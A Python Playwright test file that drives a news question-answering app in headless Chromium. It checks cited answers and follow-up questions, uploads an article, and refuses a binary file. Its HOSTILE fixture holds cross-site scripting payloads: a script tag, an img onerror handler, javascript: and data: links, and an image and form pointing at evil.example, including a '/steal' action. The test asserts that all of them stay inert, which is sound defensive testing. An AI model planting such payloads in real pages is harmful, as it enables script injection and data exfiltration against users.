"""The app in a real browser (Debian's chromium driven by Playwright): ask, read sources,
follow up, upload an article and ask what only it answers, with hostile text kept inert."""

from __future__ import annotations

import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Page, sync_playwright

from tests.conftest import ROOT, SEED_CORPUS, serve_app, write

CHROMIUM = Path("/usr/bin/chromium")
ARTIFACTS = ROOT / "test-artifacts"
ARGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]
HOSTILE = (
    "Harbour master Omar Haddad said the grain convoy left Tartus at dawn "
    '<script>window.__pwned = "script"</script> <img src=x onerror="window.__pwned = \'img\'"> '
    '![pixel](http://evil.example/pixel.png) <form action="http://evil.example/steal"><input name=q></form> '
    "[click](javascript:window.__pwned='link') [data](data:text/html,<b>hi</b>) **[7]** under naval escort.\n"
)

pytestmark = pytest.mark.skipif(not CHROMIUM.exists(), reason="chromium is installed by `make test`")


@pytest.fixture(scope="module")
def page(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Page, Path, list[str]]]:
    folder = tmp_path_factory.mktemp("browser")
    shutil.copytree(SEED_CORPUS, folder / "corpus")
    with serve_app(folder / "corpus", folder / "index") as server, sync_playwright() as playwright:
        url = server.url
        browser = playwright.chromium.launch(executable_path=str(CHROMIUM), args=ARGS)
        page = browser.new_page(viewport={"width": 1400, "height": 1000})
        foreign: list[str] = []
        page.on("request", lambda r: foreign.append(r.url) if not r.url.startswith(url) else None)
        page.goto(url)
        page.wait_for_selector("#question textarea", timeout=60_000)
        yield page, folder / "corpus", foreign
        browser.close()


def ask(page: Page, question: str, expect: str) -> None:
    page.fill("#question textarea", question)
    page.press("#question textarea", "Enter")
    page.locator("#chat").get_by_text(expect).last.wait_for(timeout=60_000)


def test_ask_read_sources_follow_up(page: tuple[Page, Path, list[str]]) -> None:
    browser, _, _ = page
    ask(browser, "Which aircraft carried out the strikes?", "F-16 aircraft")
    assert "[1][2]" in browser.inner_text("#chat")
    browser.wait_for_selector("#sources .qa-source mark")
    assert "F-15" in browser.inner_text("#sources mark >> nth=0")
    assert "sources agree" in browser.inner_text("#sources")
    browser.locator("#pick label").nth(1).click()
    browser.wait_for_selector("#context .qa-focus mark")
    assert browser.locator("#context .qa-para").count() >= 3
    ARTIFACTS.mkdir(exist_ok=True)
    browser.screenshot(path=str(ARTIFACTS / "answer.png"), full_page=True)
    ask(browser, "Who is Yair Lapid?", "Lapid, who said")
    ask(browser, "What did he say about the accord?", "serious reservations")


def test_upload_rebuild_and_ask_the_new_article(page: tuple[Page, Path, list[str]], tmp_path: Path) -> None:
    browser, corpus, foreign = page
    before = {p.name: p.read_bytes() for p in corpus.iterdir()}
    browser.get_by_role("tab", name="Articles").click()
    browser.locator("#upload input[type=file]").set_input_files(
        [str(write(tmp_path, "convoy.txt", HOSTILE)), str(write(tmp_path, "blob.txt", b"\x00\xff" * 500))]
    )
    browser.locator("#upload").get_by_text("blob", exact=True).wait_for(timeout=30_000)
    browser.click("#add")
    report = browser.locator("#report textarea")
    browser.wait_for_function(
        "() => document.querySelector('#report textarea').value.includes('Indexed')", timeout=120_000
    )
    text = report.input_value()
    assert "added: convoy.txt saved" in text
    assert "refused: blob.txt: binary file" in text
    assert {p.name for p in corpus.iterdir()} == {*before, "convoy.txt"}
    assert all((corpus / name).read_bytes() == data for name, data in before.items())
    browser.get_by_role("tab", name="Ask").click()
    ask(browser, "Who is the harbour master of Tartus?", "Omar Haddad")
    browser.wait_for_selector("#sources .qa-source")
    assert "convoy" in browser.inner_text("#sources")
    for area in ("#chat", "#sources", "#context"):
        assert browser.locator(f"{area} script, {area} form, {area} img[src^='http'], {area} img[src='x']").count() == 0
        assert browser.locator(f"{area} a[href^='javascript'], {area} a[href^='data']").count() == 0
    assert "<script>" in browser.inner_text("#sources")
    assert browser.evaluate("() => window.__pwned") is None
    assert not [u for u in foreign if "evil.example" in u]
